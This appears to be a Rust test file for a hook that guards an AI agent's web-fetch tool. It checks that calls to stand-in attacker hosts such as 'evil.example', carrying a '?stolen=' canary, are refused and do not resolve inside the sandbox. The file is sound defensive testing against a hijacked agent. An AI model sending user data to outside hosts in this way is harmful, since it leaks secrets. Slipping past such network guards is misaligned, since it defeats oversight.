//! What the file guard's hook says of the addresses that an agent's own web tools are given, and what the sandbox says of the
//! same hosts.

use crate::harness::{Identity, Run, Scene};
use serde_json::{Value, json};

/// A host, and whether the built-in policy lets it be reached by https.
const HOSTS: [(&str, bool); 7] = [
    ("github.com", true),
    ("GitHub.com.", true),
    ("registry.npmjs.org", true),
    ("evil.example", false),
    ("github.com.evil.example", false),
    ("xgithub.com", false),
    ("localhost.evil.example", false),
];

/// A call of OpenClaw's `web_fetch`, as our plugin puts it.
fn fetching(scene: &Scene, url: &str) -> Value {
    json!({"client": "openclaw", "version": 1, "tool": "web_fetch", "kind": null, "params": {"url": url},
        "derived_paths": null, "workspace": scene.workspace, "directory": null, "backend": true})
}

// Bare, there is nothing to ask: the client fetches whatever address it is given.
#[test]
fn web_tool_of_a_hijacked_agent_reaches_no_host_that_its_commands_could_not() {
    for scene in Identity::all_known().into_iter().map(Scene::new) {
        let hook = scene.binary("fs-guard-hook").into_os_string();
        for (host, allowed) in HOSTS {
            let payload = fetching(&scene, &format!("https://{host}/?stolen={}", scene.canary.text())).to_string();
            let words = [hook.clone(), "--client".into(), "openclaw".into()];
            let judged = scene.bare(&Run::new(&words).input(payload.as_bytes()));
            let looked_up = scene.sandboxed(&Run::new(&["getent", "ahostsv4", host]));
            assert_eq!((judged.status == 0, looked_up.status == 0), (allowed, allowed), "{host}: {judged} {looked_up}");
            if !allowed {
                let answer: Value = serde_json::from_str(&judged.out()).expect("an answer");
                assert_eq!(answer["code"], "net.host-not-allowed", "{judged}");
                assert!(judged.err().contains("network.allow"), "the reason says what would help: {judged}");
            }
        }
    }
}

// Bare, there is nothing to ask here either.
#[test]
fn web_tool_given_an_address_without_its_scheme_reaches_no_host_either() {
    for scene in Identity::all_known().into_iter().map(Scene::new) {
        let hook = scene.binary("fs-guard-hook").into_os_string();
        scene.write(&scene.at_work("evil.example"), "a file that a command has made\n");
        scene.write(&scene.at_work("evil.example.net/x"), "another\n");
        for url in ["evil.example", "evil.example.net/x", "other.example/?stolen", "localhost/x", "127.1/", "x/y"] {
            let words = [hook.clone(), "--client".into(), "openclaw".into()];
            let judged = scene.bare(&Run::new(&words).input(fetching(&scene, url).to_string().as_bytes()));
            assert_ne!(judged.status, 0, "{url}: {judged}");
            let answer: Value = serde_json::from_str(&judged.out()).expect("an answer");
            assert_eq!(answer["code"], "net.host-not-allowed", "{url}: {judged}");
        }
    }
}
